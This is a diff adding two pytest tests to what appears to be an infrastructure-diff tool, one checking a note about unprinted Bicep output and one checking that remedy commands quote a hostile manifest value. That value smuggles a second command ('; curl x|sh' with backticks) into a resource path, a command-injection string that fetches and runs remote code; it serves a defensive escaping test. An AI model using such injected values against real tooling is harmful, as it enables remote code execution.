@@ -289,6 +289,30 @@ def test_two_targets_differ_by_design_by_mode_or_by_accident(
     assert run(["diff", "-f", str(repository), "--between", "dev", "prod", "--against", "HEAD"]) == 3
 
 
+def test_an_output_that_this_release_does_not_print_is_told_by_its_spec(diff: Diff, repository: Path) -> None:
+    file = next((repository / "generated" / "dev" / "infra").glob("foundation.bicep"))
+    file.write_text(file.read_text(encoding="utf-8").replace("\n\n", "\n\n\n"), encoding="utf-8")
+    committed(repository)
+    found = diff(("retention_days: 90", "retention_days: 120"))
+    printed = "dev/infra holds Bicep that this release of mlinfra does not print"
+    assert found["notes"] == [
+        f"{printed}: what this release makes of the earlier spec is compared, and not what was committed"
+    ]
+    assert {each["address"] for each in found["changes"]} == {"log_analytics.main"}
+
+
+def test_a_hostile_manifest_gives_nothing_to_paste_that_runs(diff: Diff, repository: Path) -> None:
+    """Names and ids in it are anybody's: they stand in quotes in what a reader pastes, and are no markup."""
+    file = repository / "generated" / "manifest.json"
+    hostile = file.read_text(encoding="utf-8").replace('/datastores/raw"', '/datastores/raw; curl x|sh `a`"')
+    file.write_text(hostile, encoding="utf-8")
+    committed(repository)
+    found = diff()
+    left = [each["remedy"] for each in found["changes"] if each["action"] == "deleted"]
+    assert left
+    assert all("/datastores/raw; curl x|sh `a`'" in remedy and "--ids '/subscriptions" in remedy for remedy in left)
+
+
 def test_what_is_selected_is_told_alone(diff: Diff, repository: Path, capsys: pytest.CaptureFixture[str]) -> None:
     edits = (("retention_days: 90", "retention_days: 30"), ("D4ds_v4", "D8ds_v4"))
     selected = {
